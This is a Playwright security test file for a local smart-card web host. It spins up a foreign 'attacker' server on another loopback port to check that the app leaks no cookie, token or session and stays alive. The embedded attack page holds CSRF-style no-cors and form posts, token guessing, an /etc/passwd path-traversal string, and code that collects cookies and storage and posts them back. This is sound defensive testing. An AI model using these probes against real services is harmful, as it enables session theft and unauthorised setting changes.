import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect } from '@playwright/test'
import { platformTest as test } from './platform-fixture'

/** The app's tab is live: it shows the card state (earlier specs may leave a card in the reader). */
const APP_LIVE = /^(請插入自然人憑證|讀卡機準備完成)$/

// Issue 14 item 2, in Debian's Chromium: a page served by another server on the loopback
// interface (another port) is opened in the same browser profile as the running app. It gets
// no cookie and no token, nothing it sends is executed by the web host, and it cannot crash it.

interface Seen {
  url: string
  headers: IncomingHttpHeaders
}

/** The attacker: records every request it receives; serves the attack page and takes its report. */
async function startForeignServer(
  appOrigin: string
): Promise<{ origin: string; seen: Seen[]; report: Promise<Record<string, string>>; close(): Promise<void> }> {
  const seen: Seen[] = []
  let gotReport!: (r: Record<string, string>) => void
  const report = new Promise<Record<string, string>>((r) => (gotReport = r))
  const page = attackPage(appOrigin)
  const server: Server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers })
    if (req.url === '/report' && req.method === 'POST') {
      let body = ''
      req.on('data', (d: Buffer) => (body += d.toString()))
      req.on('end', () => {
        gotReport(JSON.parse(body) as Record<string, string>)
        res.end('ok')
      })
      return
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
    res.end(page)
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    report,
    close: () => new Promise((r) => server.close(() => r()))
  }
}

/** Everything a foreign page can try without knowing the page session. */
function attackPage(app: string): string {
  const malformed = [
    '/%E0%A4%A',
    '/%',
    '/%ff%fe',
    '/ipc/%E0%A4%A',
    '/events%',
    '/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/' + 'a'.repeat(9000)
  ]
  const script = `
    const app = ${JSON.stringify(app)}
    const out = {}
    const tryIt = async (name, fn) => { try { out[name] = String(await fn()) } catch (e) { out[name] = 'blocked: ' + e.name } }
    async function main() {
      // Malformed URLs as images (no token needed to reach the parser).
      await Promise.all(${JSON.stringify(malformed)}.map((p) => new Promise((r) => {
        const img = new Image(); img.onload = img.onerror = r; img.src = app + p
      })))
      // A "simple" cross-origin POST (no preflight): text/plain, no custom header.
      await tryIt('simplePost', async () => (await fetch(app + '/ipc/settings:update', { method: 'POST', mode: 'no-cors', body: '{"logLevel":"debug"}' })).type)
      await tryIt('simplePostJson', async () => (await fetch(app + '/ipc/settings:update', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"logLevel":"debug"}' })).type)
      // With the bridge headers: needs a CORS preflight, never granted.
      await tryIt('corsPost', async () => (await fetch(app + '/ipc/settings:update', { method: 'POST', headers: { 'content-type': 'application/json', 'x-eccs-bridge': '1', 'x-eccs-session': 'guess' }, body: '{"logLevel":"debug"}' })).status)
      await tryIt('corsRead', async () => (await (await fetch(app + '/ipc/session:get', { method: 'POST' })).text()))
      await tryIt('tokenGuess', async () => (await fetch(app + '/session', { method: 'POST', headers: { 'x-eccs-bridge': '1', 'x-eccs-token': 'guess' } })).status)
      await tryIt('readPage', async () => (await (await fetch(app + '/')).text()).slice(0, 20))
      await tryIt('events', () => new Promise((resolve) => { const es = new EventSource(app + '/events'); es.onmessage = (m) => resolve('message ' + m.data); es.onerror = () => { es.close(); resolve('error') } }))
      // A form post into a frame (navigations are not subject to CORS).
      await tryIt('formPost', () => new Promise((resolve) => {
        const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f)
        const form = document.createElement('form'); form.method = 'POST'; form.target = 'sink'; form.enctype = 'text/plain'
        form.action = app + '/ipc/settings:update'
        const input = document.createElement('input'); input.name = '{"logLevel":"debug","x":"'; input.value = '"}'; form.append(input)
        document.body.append(form); f.onload = () => resolve('submitted'); form.submit(); setTimeout(() => resolve('no load'), 3000)
      }))
      await tryIt('frameApp', () => new Promise((resolve) => {
        const f = document.createElement('iframe'); f.src = app + '/'; document.body.append(f)
        f.onload = () => { try { resolve('readable: ' + f.contentDocument.body.innerHTML.slice(0, 20)) } catch (e) { resolve('blocked: ' + e.name) } }
        setTimeout(() => resolve('no load'), 3000)
      }))
      await tryIt('scriptInclude', () => new Promise((resolve) => {
        const s = document.createElement('script'); s.src = app + '/ipc/app:getInfo'; s.onload = () => resolve('loaded'); s.onerror = () => resolve('error'); document.body.append(s)
      }))
      out.cookie = document.cookie
      out.storage = JSON.stringify({ ...sessionStorage }) + JSON.stringify({ ...localStorage })
      out.href = location.href
      await fetch('/report', { method: 'POST', body: JSON.stringify(out) })
    }
    main()`
  return `<!doctype html><meta charset="utf-8"><title>foreign</title><body><script>${script}</script></body>`
}

test('a page on another loopback port gets no cookie or token, runs nothing in the app, and cannot crash it', async ({
  page,
  context,
  platform
}) => {
  // The user's app tab, as opened from the printed App URL.
  const appUrl = platform.appUrl
  const token = new URL(appUrl).searchParams.get('token') ?? ''
  const appOrigin = new URL(appUrl).origin
  await page.goto(appUrl)
  await expect(page.getByTestId('card-status')).toHaveText(APP_LIVE)
  await expect.poll(() => page.url()).not.toContain('token') // gone from the address bar…
  // …and from the tab's history: back is the blank start page, forward the app without the token.
  await page.goBack()
  expect(page.url()).toBe('about:blank')
  await page.goForward()
  expect(page.url()).not.toContain('token')
  await expect(page.getByTestId('card-status')).toHaveText(APP_LIVE)
  const session = await page.evaluate(() => sessionStorage.getItem('eccs-web-session'))
  expect(session).toMatch(/^[\w-]{43}$/)
  expect(await context.cookies()).toEqual([]) // no cookie at all, for any port

  // A spent token opens nothing in a fresh tab.
  const second = await context.newPage()
  await second.goto(appUrl)
  await expect(second.getByTestId('host-session-required')).toBeVisible()
  await second.close()

  const foreign = await startForeignServer(appOrigin)
  try {
    const attacker = await context.newPage()
    await attacker.goto(`${foreign.origin}/attack.html`)
    const report = await foreign.report

    // Nothing the browser sent to the foreign server carries a cookie, the token or the session.
    expect(foreign.seen.length).toBeGreaterThanOrEqual(2)
    for (const s of foreign.seen) {
      expect(s.headers.cookie).toBeUndefined()
      const all = JSON.stringify(s)
      expect(all).not.toContain(token)
      expect(all).not.toContain(session)
    }
    expect(report.cookie).toBe('')
    expect(report.storage).not.toContain(String(session))
    // Nothing the web host answered was readable by the foreign page.
    expect(report.corsPost).toMatch(/^blocked/)
    expect(report.corsRead).toMatch(/^blocked/)
    expect(report.tokenGuess).toMatch(/^blocked/)
    expect(report.readPage).toMatch(/^blocked/)
    expect(report.events).toBe('error')
    expect(report.frameApp).not.toMatch(/^readable/)
    expect(report.scriptInclude).toBe('error')
    await attacker.close()
  } finally {
    await foreign.close()
  }

  // The web host is alive and its own page still works; nothing the attacker sent was executed.
  expect(platform.process.exitCode).toBeNull()
  expect(platform.process.signalCode).toBeNull()
  const settings = await page.evaluate(async (s) => {
    const r = await fetch('/ipc/settings:get', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-eccs-bridge': '1', 'x-eccs-session': s ?? '' },
      body: '{}'
    })
    return (await r.json()) as { ok: boolean; value: { values: { logLevel: string }; sources: Record<string, string> } }
  }, session)
  expect(settings.ok).toBe(true)
  expect(settings.value.sources.logLevel).not.toBe('user')
  expect(settings.value.values.logLevel).not.toBe('debug')
  await page.reload() // the tab keeps its session over a reload
  await expect(page.getByTestId('card-status')).toHaveText(APP_LIVE)
})

test('the web host tab says the app has stopped instead of a green status', async ({ page, platform }) => {
  await page.goto(platform.appUrl)
  await expect(page.getByTestId('card-status')).toHaveText(APP_LIVE)
  const exited = new Promise((r) => platform.process.once('exit', r))
  platform.process.kill('SIGTERM')
  await exited
  await expect(page.getByTestId('host-stopped')).toBeVisible()
  await expect(page.getByTestId('host-stopped')).toContainText('應用程式已停止執行')
  await expect(page.getByTestId('card-status')).toHaveCount(0)
})
